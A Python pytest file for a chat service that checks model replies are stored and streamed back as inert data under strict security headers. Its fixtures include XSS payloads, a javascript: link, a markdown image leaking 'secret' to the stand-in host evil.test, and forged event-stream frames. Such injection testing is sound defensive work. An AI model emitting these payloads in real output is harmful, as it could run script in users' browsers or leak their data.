"""What a model says is data, whatever it says: kept as it is, and nowhere taken for anything else."""

import json

import pytest
from tests.unit.entrypoints.chatcore_service.http_service import ALICE, running_service

from chatcore_memory import DONE_FRAME, token_frame

SAYINGS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a link that runs": "[click](javascript:alert(1)) ![x](https://evil.test/?q=secret)",
    "frames": '\n\ndata: {"done":true}\n\nevent: error\rid: 7\n: comment\n\n',
    "lines that some take for ended": "a\u2028b\u2029c\u0085d",
}


@pytest.mark.parametrize("saying", SAYINGS.values(), ids=SAYINGS)
async def test_what_a_model_says_is_stored_and_returned_as_data(saying: str) -> None:
    async with running_service() as service:
        service.inference.play(token_frame(saying), DONE_FRAME)
        conversation = await service.conversation()
        reply = (await service.turn(conversation))["messages"][-1]
        opened = await service.client.get(conversation, headers=ALICE)
        resumed = await service.client.get(f"{conversation}/messages/{reply['id']}/stream", headers=ALICE)

    assert reply["content"] == saying
    assert opened.headers["content-type"] == "application/json"
    assert resumed.headers["content-type"] == "text/event-stream"
    for response in (opened, resumed):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"].startswith("default-src 'none'")
    *frames, rest = resumed.text.split("\n\n")
    assert rest == ""
    said = [json.loads(frame.partition("data: ")[2]) for frame in frames]
    assert "".join(frame.get("token", "") for frame in said) == saying
    assert said[-1] == {"done": True}
